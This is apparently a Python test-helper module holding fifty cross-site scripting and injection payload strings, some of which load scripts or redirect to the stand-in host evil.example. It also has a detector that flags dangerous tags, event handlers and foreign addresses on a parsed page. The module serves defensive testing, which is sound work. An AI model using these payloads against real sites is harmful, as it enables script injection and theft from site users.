"""Fifty texts that try to run as HTML or script, and a check whether one has succeeded on a parsed page."""

from tests.api.pages.visits import Element, parsed

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) //",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "</svg><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>Go</button>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '" style="position:fixed;inset:0" x="',
    '" hx-get="//evil.example" hx-trigger="load" x="',
    "<p hx-on:click=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "{{ 7 * 7 }}{% for x in y %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
)

_HARMFUL = {"iframe", "object", "embed", "base", "style", "marquee", "video", "math", "template", "img", "animate"}
_ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "hx-get", "hx-post", "srcdoc")


def dangers(page: str) -> list[str]:
    """What of a page would run, load or send something that is not ours."""
    return [found for each in parsed(page).walk() for found in _of(each)]


def _of(each: Element) -> list[str]:
    found = []
    if each.tag in _HARMFUL:
        found.append(f"<{each.tag}>")
    if each.tag == "script" and not (each.attrs.get("src", "").startswith("/static/") and not each.raw.strip()):
        found.append(f"<script {each.attrs}>")
    if each.tag == "meta" and "http-equiv" in each.attrs:
        found.append("<meta http-equiv>")
    for name, value in each.attrs.items():
        if name.startswith(("on", "hx-on")) or name == "style":
            found.append(f"{each.tag}[{name}]")
        if name in _ADDRESSES and not _ours(each, value):
            found.append(f"{each.tag}[{name}={value}]")
    return found


def _ours(each: Element, address: str) -> bool:
    """A path of ours, or a plain link that somebody follows or not."""
    if address.startswith("/") and not address.startswith(("//", "/\\")):
        return True
    return address.startswith("#") or (each.tag == "a" and address.startswith(("http://", "https://", "//")))


def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """Elements with the names of their attributes, in order: of a page with any text in its fields it is the same."""
    return [(each.tag, tuple(each.attrs)) for each in parsed(page).walk()]
